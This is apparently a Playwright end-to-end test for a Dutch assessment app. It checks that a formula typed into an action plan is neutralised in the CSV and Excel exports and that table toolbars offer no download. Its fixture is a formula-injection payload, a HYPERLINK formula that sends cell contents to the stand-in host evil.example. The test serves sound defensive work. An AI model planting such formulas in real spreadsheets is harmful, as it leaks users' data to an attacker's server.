"""In a real browser: a formula typed into an action is shown as typed, comes out neutralised
in the plan's CSV and Excel downloads, and a table's toolbar offers no download of its own
(``client.disableDataExport``), while its search still works."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from playwright.sync_api import expect

from assessment.exports import DANGEROUS_STARTS
from assessment.i18n import t
from assessment.organisations import create_organisation
from tests.context import on

from .support import assert_no_exception, choose, click_button, goto, main, nav, settle

pytestmark = pytest.mark.e2e

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


def download(page, label: str) -> bytes:
    with page.expect_download() as info:
        main(page).get_by_role("button", name=label).click()
    return open(info.value.path(), "rb").read()


def test_typed_formula_neutralised_and_no_toolbar_download(server, new_page):
    create_organisation(on(server.db_path), "Formule BV", "C", "10", 20, ["Atelier"])
    page = new_page()
    goto(page, server.url)
    nav(page, "Actieplan")
    form = main(page).get_by_test_id("stForm")
    form.get_by_label("Actie", exact=True).fill(FORMULA)
    choose(form, t("plan.gap", "nl"), "Werkdruk")
    form.get_by_label("Verantwoordelijke").fill("@Els")
    click_button(page, "Actie toevoegen")
    settle(page)
    assert_no_exception(page)
    expect(main(page).get_by_text(FORMULA, exact=True).first).to_be_visible()  # as typed

    rows = list(csv.reader(io.StringIO(download(page, "Plan downloaden (CSV)")
                                       .decode("utf-8-sig")), delimiter=";"))  # Dutch
    owner = rows[0].index(t("actions.owner", "nl"))
    assert (rows[1][0], rows[1][owner]) == ("'" + FORMULA, "'@Els")
    assert not any(v.startswith(DANGEROUS_STARTS) for row in rows for v in row)
    sheet = openpyxl.load_workbook(io.BytesIO(download(page, "Plan downloaden (Excel)"))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert "'" + FORMULA in [c.value for c in cells]
    assert not any(c.data_type == "f" or str(c.value or "").startswith(DANGEROUS_STARTS)
                   for c in cells)

    # A table of typed names (the organisations) has the toolbar's search, not its download.
    nav(page, "Organisatie")
    table = main(page).get_by_test_id("stDataFrame")
    expect(table).to_have_count(1)
    table.hover()
    toolbar = page.get_by_test_id("stElementToolbar").first
    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()
    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
